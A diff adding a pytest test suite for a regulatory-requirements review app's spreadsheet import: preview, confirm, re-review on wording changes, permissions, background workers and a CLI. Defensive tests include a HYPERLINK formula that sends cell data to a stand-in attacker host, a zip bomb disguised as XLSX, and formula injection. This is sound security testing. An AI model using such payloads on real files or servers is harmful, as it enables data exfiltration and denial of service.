@@ -1,0 +1,536 @@
+"""An administrator imports the ministries' spreadsheets: preview, confirm, and all that goes
+wrong in real files. Every bad file gets a clear message and leaves the register as it was."""
+
+from __future__ import annotations
+
+import logging
+import re
+
+import pytest
+import sqlalchemy as sa
+
+from review_app.audit import AuditEntry
+from review_app.auth.models import GlobalRole
+from review_app.extensions import db
+from review_app.imports.models import ImportBatch, ImportStatus
+from review_app.requirements.models import Area, Decision, Requirement, State
+from review_app.reviews.models import Action, ReviewEvent
+from tests.conftest import decide, login_as, page_text, propose, reload
+from tests.importing import EN, RU, RU4, csv_bytes, row, xlsx_bytes, zip_bomb
+
+REGISTER = ("areas", "users", "area_memberships", "requirements", "review_events")
+
+
+@pytest.fixture
+def fire(world):
+    return world.area("07", "Пожарная безопасность")
+
+
+@pytest.fixture
+def transport(world):
+    return world.area("12", "Транспорт")
+
+
+@pytest.fixture
+def admin(world):
+    return world.user("admin", role=GlobalRole.ADMIN)
+
+
+@pytest.fixture
+def signed_in_admin(client, admin, fire, transport):
+    login_as(client, admin)
+    return admin
+
+
+def register() -> dict[str, list[tuple]]:
+    """Every row of the register's tables, to show that a refused file changed nothing."""
+    db.session.expire_all()
+    tables = db.metadata.tables
+    return {name: [tuple(r) for r in db.session.execute(
+        sa.select(tables[name]).order_by(*tables[name].primary_key.columns))]
+        for name in REGISTER}
+
+
+BOUNDARY = "import-test-boundary"
+
+
+def multipart(fields: dict[str, str], filename: str | None = None,
+              data: bytes = b"") -> bytes:
+    """A multipart body built in memory (the test client would spool large files to a
+    temporary file it never closes)."""
+    parts = [f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'
+             .encode() for k, v in fields.items()]
+    if filename is not None:
+        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; '
+                     f'filename="{filename}"\r\nContent-Type: application/octet-stream\r\n\r\n'
+                     .encode() + data + b"\r\n")
+    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()
+
+
+def upload(client, data: bytes, name: str = "перечень.xlsx", **options):
+    fields = {"csrf_token": options.get("csrf_token") or client.csrf_token(),
+              "encoding": options.get("encoding", "auto"),
+              "delimiter": options.get("delimiter", "auto")}
+    return client.post("/admin/imports/", data=multipart(fields, name, data),
+                       content_type=f"multipart/form-data; boundary={BOUNDARY}")
+
+
+def batch_id(response) -> int:
+    assert response.status_code == 302, page_text(response)[:500]
+    return int(re.search(r"/admin/imports/(\d+)$", response.location).group(1))
+
+
+def preview(client, data: bytes, name: str = "перечень.xlsx", **options) -> tuple[int, str]:
+    """Upload, follow to the preview page; return the batch id and the page's text."""
+    ident = batch_id(upload(client, data, name, **options))
+    page = client.get(f"/admin/imports/{ident}")
+    assert page.status_code == 200
+    return ident, page_text(page)
+
+
+def confirm(client, ident: int):
+    return client.post(f"/admin/imports/{ident}/confirm", data={})
+
+
+def batch(ident: int) -> ImportBatch:
+    db.session.expire_all()
+    return db.session.get(ImportBatch, ident)
+
+
+def codes() -> list[str]:
+    return list(db.session.scalars(sa.select(Requirement.code).order_by(Requirement.code)))
+
+
+THREE = [row("MCS-07-001", area="07", annual_cost_kzt="1 500 000", issuing_body="МЧС РК"),
+         row("MCS-07-002", area="07"),
+         row("MT-12-001", area="12", businesses_affected="340")]
+
+
+# The main story --------------------------------------------------------------------------------
+
+def test_admin_previews_a_file_then_confirms_and_reviewers_see_it(client, signed_in_admin,
+                                                                  world, fire):
+    ident, page = preview(client, xlsx_bytes(THREE))
+    assert batch(ident).status == ImportStatus.READY
+    assert "3 rows" in page and "3 new" in page and "0 changed" in page
+    assert codes() == []  # nothing is written before the admin confirms
+
+    response = confirm(client, ident)
+    assert response.status_code == 302
+    assert batch(ident).status == ImportStatus.APPLIED
+    assert codes() == ["MCS-07-001", "MCS-07-002", "MT-12-001"]
+    first = db.session.scalar(sa.select(Requirement).where(Requirement.code == "MCS-07-001"))
+    assert (first.area.code, first.state, first.annual_cost_kzt, first.issuing_body) == (
+        "07", State.UNREVIEWED, 1_500_000, "МЧС РК")
+    assert "мчс-07-001" not in first.search_text and "mcs-07-001" in first.search_text
+    entry = db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "import_applied"))
+    assert entry.actor_id == signed_in_admin.id and entry.details["new"] == 3
+    assert "Imported by Admin" in page_text(client.get(f"/admin/imports/{ident}"))
+
+    reviewer = world.user("rita", reviewer_in=(fire,))
+    login_as(client, reviewer)
+    listing = page_text(client.get("/requirements/"))
+    assert "MCS-07-001" in listing and "MCS-07-002" in listing
+    assert "MT-12-001" not in listing  # another area
+
+
+def test_the_same_file_again_changes_nothing(client, signed_in_admin):
+    data = csv_bytes(THREE)
+    confirm(client, preview(client, data, "wave1.csv")[0])
+    before = register()
+
+    ident, page = preview(client, data, "wave1.csv")
+    assert "0 new" in page and "0 changed" in page and "3 unchanged" in page
+    assert "already imported" in page and "nothing to import" in page
+    response = confirm(client, ident)  # even if confirmed anyway
+    assert batch(ident).status == ImportStatus.APPLIED
+    assert register() == before and response.status_code == 302
+
+
+def test_a_changed_text_sends_a_decided_requirement_back_to_review(client, signed_in_admin,
+                                                                   world, fire):
+    rita = world.user("rita", reviewer_in=(fire,))
+    leo = world.user("leo", lead_in=(fire,))
+    req = world.requirement(fire, code="MCS-07-001", title="Огнетушители")
+    old_text = req.text
+    login_as(client, rita)
+    propose(client, req, "cancel")
+    login_as(client, leo)
+    decide(client, req, "approve", "Согласен")
+    assert reload(req).state == State.APPROVED
+    version = reload(req).version
+
+    new_text = old_text.replace("на каждом этаже", "в каждом помещении")
+    login_as(client, signed_in_admin)
+    ident, page = preview(client, xlsx_bytes([row("MCS-07-001", title="Огнетушители",
+                                                  text=new_text)]))
+    assert "1 changed" in page and "1 back to review" in page
+    assert "MCS-07-001" in page and "approved" in page
+    assert reload(req).state == State.APPROVED  # not yet
+
+    confirm(client, ident)
+    saved = reload(req)
+    assert saved.text == new_text
+    assert saved.state == State.RETURNED and saved.decision == Decision.CANCEL
+    assert saved.decided_by_id is None and saved.version == version + 1
+    event = db.session.scalars(sa.select(ReviewEvent).where(
+        ReviewEvent.requirement_id == req.id).order_by(ReviewEvent.id.desc())).first()
+    assert event.action == Action.WORDING_CHANGED
+    assert (event.from_state, event.to_state) == (State.APPROVED, State.RETURNED)
+    assert (event.text, event.new_wording) == (old_text, new_text)
+    assert event.actor_id == signed_in_admin.id and event.version == saved.version
+
+    # The reviewer sees why, and a form opened before the import is refused as stale.
+    login_as(client, rita)
+    html = client.get(f"/requirements/{req.id}").get_data(as_text=True)
+    assert "changed the wording" in page_text(client.get(f"/requirements/{req.id}"))
+    assert "<del>на каждом этаже</del>" in html or "<del>" in html
+    stale = propose(client, req, "keep", version=version)
+    assert stale.status_code == 409
+
+
+def test_other_changes_update_without_a_new_review(client, signed_in_admin, world, fire):
+    rita = world.user("rita", reviewer_in=(fire,))
+    req = world.requirement(fire, code="MCS-07-001", title="Огнетушители")
+    login_as(client, rita)
+    propose(client, req, "cancel")
+    login_as(client, signed_in_admin)
+    ident, page = preview(client, csv_bytes([row("MCS-07-001", title="Огнетушители на объекте",
+                                                 text=req.text, annual_cost_kzt="99")]))
+    assert "1 changed" in page and "back to review" not in page
+    confirm(client, ident)
+    saved = reload(req)
+    assert (saved.title, saved.annual_cost_kzt, saved.state) == (
+        "Огнетушители на объекте", 99, State.PROPOSED)
+    assert [e.action for e in saved.events] == [Action.PROPOSE]
+
+
+def test_columns_left_out_of_the_file_are_left_alone(client, signed_in_admin, world, fire):
+    req = world.requirement(fire, code="MCS-07-001", title="T", text="X", article="п. 12")
+    ident, page = preview(client, csv_bytes([row("MCS-07-001", title="T", text="X")],
+                                            headers=RU4))
+    assert "1 unchanged" in page
+    confirm(client, ident)
+    assert reload(req).article == "п. 12"
+
+
+def test_empty_cells_leave_what_is_stored(client, signed_in_admin, world, fire):
+    req = world.requirement(fire, code="MCS-07-001", title="T", text="X", article="п. 12",
+                            annual_cost_kzt=700)
+    ident, page = preview(client, csv_bytes([row("MCS-07-001", title="T", text="X",
+                                                 article="", annual_cost_kzt="",
+                                                 issuing_body="МЧС РК")]))
+    assert "1 changed" in page
+    assert "MCS-07-001 issuing_body" in page  # the only change; English: documented names
+    confirm(client, ident)
+    saved = reload(req)
+    assert (saved.article, saved.annual_cost_kzt, saved.issuing_body) == ("п. 12", 700, "МЧС РК")
+
+
+def test_a_reviewed_requirement_is_not_moved_to_another_area(client, signed_in_admin, world,
+                                                             fire):
+    rita = world.user("rita", reviewer_in=(fire,))
+    req = world.requirement(fire, code="MCS-07-001")
+    login_as(client, rita)
+    propose(client, req, "cancel")
+    login_as(client, signed_in_admin)
+    before = register()
+    ident, page = preview(client, csv_bytes([row("MCS-07-001", area="12", text=req.text,
+                                                 title=req.title)]))
+    assert batch(ident).status == ImportStatus.INVALID
+    assert "already being reviewed" in page and "MCS-07-001" in page
+    assert confirm(client, ident).status_code == 303
+    assert register() == before
+
+
+# Bad input: each a clear message, the register untouched ----------------------------------------
+
+def test_an_empty_file(client, signed_in_admin):
+    before = register()
+    response = upload(client, b"", "пусто.csv")
+    assert response.status_code == 400
+    assert "The file is empty" in page_text(response)
+    assert db.session.scalar(sa.select(sa.func.count()).select_from(ImportBatch)) == 0
+    assert register() == before
+
+
+def test_no_file_chosen(client, signed_in_admin):
+    response = client.post("/admin/imports/", data=multipart(
+        {"csrf_token": client.csrf_token(), "encoding": "auto", "delimiter": "auto"}),
+        content_type=f"multipart/form-data; boundary={BOUNDARY}")
+    assert response.status_code == 400 and "Choose the file to import" in page_text(response)
+
+
+def test_a_binary_file_renamed_csv(client, signed_in_admin):
+    before = register()
+    ident, page = preview(client, bytes(range(256)) * 64, "перечень.csv")
+    assert batch(ident).status == ImportStatus.INVALID
+    assert "This is not a CSV or XLSX file" in page
+    assert 'data-testid="confirm"' not in client.get(f"/admin/imports/{ident}").get_data(
+        as_text=True)
+    assert register() == before
+
+
+def test_a_50_mb_file(client, signed_in_admin):
+    before = register()
+    response = upload(client, b"x" * (50 * 1024 * 1024), "огромный.csv")
+    assert response.status_code == 413
+    assert "The file is too large: at most 30 MB" in page_text(response)
+    assert db.session.scalar(sa.select(sa.func.count()).select_from(ImportBatch)) == 0
+    assert register() == before
+
+
+def test_a_zip_bomb_disguised_as_xlsx(client, app, signed_in_admin):
+    app.config["IMPORT_MAX_UNCOMPRESSED"] = 20 * 1024 * 1024
+    before = register()
+    ident, page = preview(client, zip_bomb(64), "перечень.xlsx")
+    assert batch(ident).status == ImportStatus.INVALID
+    assert "would unpack to more than the server accepts" in page
+    assert register() == before
+
+
+def test_missing_columns(client, signed_in_admin):
+    before = register()
+    ident, page = preview(client, csv_bytes(THREE, headers=[RU[0], RU[2], RU[3]]))
+    assert "Required columns are missing: area_code (Код сферы)" in page
+    assert register() == before
+
+
+def test_extra_columns_are_shown_and_ignored(client, signed_in_admin):
+    raw = [[*RU4, "Примечание"], ["A-1", "07", "Заголовок", "Текст", "сверено"]]
+    ident, page = preview(client, csv_bytes(raw=raw))
+    assert "not recognised and will be ignored: E: Примечание" in page
+    assert batch(ident).status == ImportStatus.READY
+
+
+def test_a_header_in_another_language(client, signed_in_admin):
+    before = register()
+    raw = [["Талап", "Сала", "Атауы", "Мәтіні"], ["A-1", "07", "x", "y"]]
+    ident, page = preview(client, csv_bytes(raw=raw))
+    assert "No row of column names was found" in page
+    assert "Талап; Сала; Атауы; Мәтіні" in page
+    assert "Код требования" in page  # what to write instead
+    assert register() == before
+
+
+def test_a_hyperlink_formula_in_a_cell(client, signed_in_admin):
+    before = register()
+    rows = [row("A-1"), row("A-2", title='=HYPERLINK("http://evil.example/?"&A1,"Открыть")')]
+    ident, page = preview(client, xlsx_bytes(rows))
+    assert batch(ident).error_count == 1
+    assert "row 3" in page.lower() or "3 C" in page
+    assert "A spreadsheet formula, not a value" in page
+    assert register() == before
+
+
+def test_10000_rows_with_one_wrong(client, signed_in_admin):
+    rows = [row(f"MCS-{i:05d}", area="07" if i % 2 else "12") for i in range(10_000)]
+    rows[7_345]["annual_cost_kzt"] = "1,5 млн"
+    data = csv_bytes(rows)
+    before = register()
+    ident, page = preview(client, data, "большой.csv")
+    saved = batch(ident)
+    assert saved.status == ImportStatus.INVALID and saved.error_count == 1
+    problem = saved.report["errors"][0]
+    assert (problem["row"], problem["letter"], problem["code"]) == (7_347, "J", "bad_number")
+    assert "1 problem" in page and "1,5 млн" in page
+    assert confirm(client, ident).status_code == 303
+    assert register() == before
+
+    rows[7_345]["annual_cost_kzt"] = "1500000"
+    ident, page = preview(client, csv_bytes(rows), "большой-исправлен.csv")
+    assert "10,000 new" in page
+    confirm(client, ident)
+    assert db.session.scalar(sa.select(sa.func.count()).select_from(Requirement)) == 10_000
+
+
+def test_the_errors_can_be_downloaded_to_work_through(client, signed_in_admin):
+    rows = [row("A-1", area="99"), row("A-2", text="=1+2")]
+    ident, _ = preview(client, csv_bytes(rows))
+    response = client.get(f"/admin/imports/{ident}/errors.csv")
+    text = response.get_data().decode("utf-8-sig")
+    assert response.status_code == 200 and "No area has this code" in text
+    assert "'=1+2" in text  # the value is shown, neutralised
+
+
+def test_a_file_with_errors_cannot_be_confirmed(client, signed_in_admin):
+    ident, _ = preview(client, csv_bytes([row("A-1", area="99")]))
+    response = confirm(client, ident)
+    assert response.status_code == 303
+    assert "cannot be imported now" in page_text(client.get(response.location))
+    assert codes() == []
+
+
+def test_confirming_twice_imports_once(client, signed_in_admin):
+    ident, _ = preview(client, csv_bytes(THREE))
+    confirm(client, ident)
+    before = register()
+    assert confirm(client, ident).status_code == 303
+    assert register() == before
+
+
+def test_a_discarded_file_is_gone(client, signed_in_admin):
+    ident, _ = preview(client, csv_bytes(THREE))
+    client.post(f"/admin/imports/{ident}/discard", data={})
+    assert batch(ident).status == ImportStatus.DISCARDED
+    assert confirm(client, ident).status_code == 303
+    assert codes() == []
+
+
+def test_the_example_files_import_cleanly(client, signed_in_admin, world):
+    for code in ("01", "02", "03"):
+        world.area(code, f"Сфера {code}")
+    for fmt in ("xlsx", "csv"):
+        response = client.get(f"/admin/imports/example.{fmt}")
+        assert response.status_code == 200
+        ident, page = preview(client, response.data, f"example.{fmt}")
+        assert batch(ident).status == ImportStatus.READY, page
+        assert batch(ident).new_count == 3
+
+
+# Who may import --------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("who", ["reviewer", "lead", "manager"])
+def test_only_admins_import(client, world, fire, who, caplog):
+    person = {"reviewer": lambda: world.user("r", reviewer_in=(fire,)),
+              "lead": lambda: world.user("l", lead_in=(fire,)),
+              "manager": lambda: world.user("m", role=GlobalRole.MANAGER)}[who]()
+    admin = world.user("admin", role=GlobalRole.ADMIN)
+    login_as(client, admin)
+    ident = batch_id(upload(client, csv_bytes(THREE[:2])))
+    login_as(client, person)
+    before = register()
+    with caplog.at_level(logging.WARNING, logger="review_app.permissions"):
+        assert client.get("/admin/imports/").status_code == 403
+        assert upload(client, csv_bytes(THREE)).status_code == 403
+        assert client.get(f"/admin/imports/{ident}").status_code == 403
+        assert confirm(client, ident).status_code == 403
+        assert client.get(f"/admin/imports/{ident}/errors.csv").status_code == 403
+        assert client.get("/admin/imports/example.xlsx").status_code == 403
+    assert "action=import" in caplog.text
+    assert register() == before and batch(ident).status == ImportStatus.READY
+    denied = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "denied",
+                                                            AuditEntry.actor_id == person.id))
+    assert len(list(denied)) == 6
+
+
+def test_anonymous_upload_goes_to_sign_in(client, fire):
+    response = upload(client, csv_bytes(THREE))
+    assert response.status_code == 302 and "/login" in response.location
+
+
+def test_upload_without_the_form_token_is_refused(client, signed_in_admin):
+    response = upload(client, csv_bytes(THREE), "x.csv", csrf_token="forged")
+    assert response.status_code == 400 and "expired" in page_text(response)
+    assert db.session.scalar(sa.select(sa.func.count()).select_from(ImportBatch)) == 0
+
+
+# Large files, in the background ----------------------------------------------------------------
+
+def run_worker(app) -> None:
+    from rq import SimpleWorker
+
+    from review_app.redis_conn import get_redis
+
+    with app.app_context():
+        SimpleWorker(["imports"], connection=get_redis(app)).work(burst=True)
+
+
+def test_a_large_file_is_checked_and_imported_by_a_worker(client, app, signed_in_admin):
+    app.config["IMPORT_SYNC_MAX_BYTES"] = 100
+    rows = [row(f"BIG-{i:04d}", area="07") for i in range(1500)]
+    ident = batch_id(upload(client, csv_bytes(rows), "большой.csv"))
+    assert batch(ident).status == ImportStatus.QUEUED
+    page = page_text(client.get(f"/admin/imports/{ident}"))
+    assert "Waiting for a background worker" in page
+    assert "No background worker is running" in page
+
+    run_worker(app)
+    assert batch(ident).status == ImportStatus.READY and batch(ident).new_count == 1500
+    from review_app.imports.batches import get_progress
+
+    with app.app_context():
+        assert get_progress(ident)["done"] == 1500
+
+    confirm(client, ident)
+    assert batch(ident).status == ImportStatus.APPLYING
+    assert "Importing" in page_text(client.get(f"/admin/imports/{ident}"))
+    run_worker(app)
+    assert batch(ident).status == ImportStatus.APPLIED
+    assert len(codes()) == 1500
+
+
+def test_a_worker_failure_is_shown_and_writes_nothing(client, app, signed_in_admin,
+                                                      monkeypatch):
+    app.config["IMPORT_SYNC_MAX_BYTES"] = 100
+    ident = batch_id(upload(client, csv_bytes(THREE)))
+    run_worker(app)
+    confirm(client, ident)
+    before = register()
+
+    from review_app.imports import service
+
+    def broken(*args, **kwargs):
+        raise RuntimeError("disk full")
+
+    monkeypatch.setattr(service, "apply", broken)
+    run_worker(app)
+    failed = batch(ident)
+    assert failed.status == ImportStatus.FAILED and "disk full" in failed.failure
+    assert "Nothing was imported" in page_text(client.get(f"/admin/imports/{ident}"))
+    assert register() == before
+
+
+def test_a_job_lost_with_its_worker_is_shown_as_failed(client, app, signed_in_admin):
+    app.config["IMPORT_SYNC_MAX_BYTES"] = 100
+    ident = batch_id(upload(client, csv_bytes(THREE)))
+    from rq.job import Job
+
+    from review_app.redis_conn import get_redis
+
+    with app.app_context():
+        Job.fetch(f"import-analyse-{ident}", connection=get_redis(app)).delete()
+    page = page_text(client.get(f"/admin/imports/{ident}"))
+    assert batch(ident).status == ImportStatus.FAILED
+    assert "stopped unexpectedly" in page and "Nothing was imported" in page
+
+
+# The command line ------------------------------------------------------------------------------
+
+def test_command_line_dry_run_then_import(runner, tmp_path, admin, fire, transport):
+    good = tmp_path / "wave.xlsx"
+    good.write_bytes(xlsx_bytes(THREE))
+    result = runner.invoke(args=["import-requirements", str(good), "--dry-run"])
+    assert result.exit_code == 0, result.output
+    assert "new: 3" in result.output and "Dry run" in result.output
+    assert codes() == []
+
+    result = runner.invoke(args=["import-requirements", str(good)])
+    assert result.exit_code == 0, result.output
+    assert "Imported by admin@example.kz" in result.output
+    assert len(codes()) == 3
+
+    result = runner.invoke(args=["import-requirements", str(good)])
+    assert "new: 0; changed: 0 (back to review: 0); unchanged: 3" in result.output
+
+
+def test_command_line_reports_problems_and_writes_nothing(runner, tmp_path, admin, fire):
+    bad = tmp_path / "wave.csv"
+    bad.write_bytes(csv_bytes([row("A-1"), row("A-2", area="99")], headers=EN))
+    before = register()
+    result = runner.invoke(args=["import-requirements", str(bad)])
+    assert result.exit_code == 1
+    assert "row 3, column B “area_code”: No area has this code" in result.output
+    assert "Nothing was imported" in result.output
+    assert register() == before
+
+
+def test_command_line_needs_to_know_which_admin(runner, tmp_path, world, admin, fire):
+    world.user("second", role=GlobalRole.ADMIN)
+    path = tmp_path / "wave.csv"
+    path.write_bytes(csv_bytes(THREE[:2]))
+    result = runner.invoke(args=["import-requirements", str(path)])
+    assert result.exit_code != 0 and "--as" in result.output
+    result = runner.invoke(args=["import-requirements", str(path), "--as", "second@example.kz"])
+    assert result.exit_code == 0, result.output
+    assert db.session.scalar(sa.select(Area.code).join(Requirement)) == "07"
